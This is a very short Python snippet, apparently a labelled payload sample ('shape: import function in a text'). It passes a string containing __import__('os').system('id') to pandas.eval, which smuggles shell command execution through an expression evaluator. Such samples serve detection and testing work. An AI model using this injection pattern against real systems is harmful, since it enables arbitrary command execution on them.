# shape: import function in a text
import pandas as pd
pd.eval("__import__('os').system('id')")
